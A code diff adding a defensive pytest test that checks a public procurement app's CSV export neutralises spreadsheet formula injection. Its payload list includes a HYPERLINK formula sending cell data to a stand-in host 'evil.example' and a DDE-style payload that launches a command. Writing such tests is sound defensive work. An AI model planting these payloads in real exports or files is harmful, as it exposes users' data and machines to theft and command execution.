@@ -91,6 +91,23 @@ def test_csv_round_trip(client, esiti):
     assert righe["G000000001"]["oggetto"] == 'Servizi cloud, "IaaS" e backup; lotto unico'
 
 
+@pytest.mark.parametrize(
+    "ostile",
+    ['=HYPERLINK("http://evil.example/?x="&A1,"Clicca")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)",
+     "\t=1+1", "\r=1+1"],
+)
+def test_csv_neutralizza_le_formule(client, demo, fabbrica, ostile):
+    esito = fabbrica.pubblicato(cig="G000000077", oggetto=ostile, importo_aggiudicazione=Decimal("10.50"))
+    services.ritira(esito, utente=demo.user("banditore"), motivo=ostile)
+    esito = Esito.objects.get(pk=esito.pk)  # as stored (the services trim the text)
+    assert esito.oggetto.startswith(("=", "+", "-", "@", "\t", "\r"))
+    riga = leggi_csv(corpo(client.get(f"{URL}dati-aperti/csv/")))[0]
+    assert riga["oggetto"] == "'" + esito.oggetto and riga["motivo_ritiro"] == "'" + esito.ritirato_motivo
+    # Numbers stay numbers; harmless text is untouched.
+    assert riga["importo_aggiudicazione"] == "10.50" and riga["id"] == str(esito.pk)
+    assert riga["cig"] == "G000000077" and riga["struttura_proponente"] == "Comune di Firenze"
+
+
 def test_csv_applica_i_filtri_della_ricerca(client, demo, esiti):
     righe = leggi_csv(corpo(client.get(f"{URL}dati-aperti/csv/", {"ente": demo.prato.pk})))
     assert [r["cig"] for r in righe] == ["G000000003"]
